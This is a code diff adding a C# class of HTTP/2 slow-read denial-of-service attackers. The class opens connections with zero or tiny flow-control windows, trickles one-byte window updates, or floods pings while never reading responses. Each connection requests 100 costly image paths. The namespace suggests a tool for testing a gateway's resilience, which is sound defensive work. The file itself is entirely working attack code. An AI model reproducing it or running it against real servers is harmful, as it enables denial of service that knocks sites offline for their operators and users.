@@ -1,0 +1,62 @@
+namespace Counter.Attack.Attackers;
+
+/// <summary>HTTP/2 connections with as many requests each as one may have, whose answers are not read.</summary>
+internal static class UnreadHttp2
+{
+    private const int Requests = 100;
+    private const int LittleBuffer = 4096;
+    private const int LargeWindow = 1 << 20;
+    private static readonly TimeSpan Second = TimeSpan.FromSeconds(1);
+
+    // Whole pages, and large pictures that are in the cache.
+    private static readonly string[] Paths =
+    [
+        "/", "/preview.png?n=1234567&size=64&scale=4", "/online/chart.png?site=attack.example&page=/unread&live=0&watch=1&width=1600&height=800",
+        "/online.png?site=attack.example&page=/unread&size=64&scale=4",
+    ];
+
+    /// <summary>Reads everything that the gateway may send, which is no byte of an answer's body.</summary>
+    public static async Task WithoutWindowAsync(Target target, int number, Action<string> count, CancellationToken over)
+    {
+        await using var connection = await Http2Connection.OpenAsync(target, number, window: 0, over);
+        await AskAsync(connection, target, over);
+        await connection.ReadToEndAsync(count, over);
+    }
+
+    /// <summary>Asks for one more byte of each answer every second.</summary>
+    public static async Task WithBytesAsync(Target target, int number, Action<string> count, CancellationToken over)
+    {
+        await using var connection = await Http2Connection.OpenAsync(target, number, window: 0, over);
+        await AskAsync(connection, target, over);
+        byte[] bytes = [.. Enumerable.Range(0, Requests).SelectMany(i => Http2Connection.Frame(Http2Connection.WindowUpdate, IdOf(i), number: 1))];
+        await Http1.EitherAsync(ended => connection.ReadToEndAsync(count, ended), async ended =>
+        {
+            while (true)
+            {
+                await Task.Delay(Second, ended);
+                await connection.WriteAsync(bytes, ended);
+            }
+        }, over);
+    }
+
+    /// <summary>Lets the gateway send, and takes nothing from the socket; goes on sending pings, whose answers are not read either.</summary>
+    public static async Task NotReadAsync(Target target, int number, Action<string> count, CancellationToken over)
+    {
+        await using var connection = await Http2Connection.OpenAsync(target, number, LargeWindow, over, LittleBuffer);
+        await AskAsync(connection, target, over);
+        var ping = Http2Connection.Frame(Http2Connection.Ping, 0, 0, new byte[8]);
+        while (true)
+        {
+            await connection.WriteAsync(ping, over);
+            await Task.Delay(Second / 10, over);
+        }
+    }
+
+    private static Task AskAsync(Http2Connection connection, Target target, CancellationToken over)
+    {
+        byte[] all = [.. Enumerable.Range(0, Requests).SelectMany(i => Http2Connection.Request(target, IdOf(i), Paths[i % Paths.Length]))];
+        return connection.WriteAsync(all, over);
+    }
+
+    private static int IdOf(int request) => 2 * request + 1;
+}
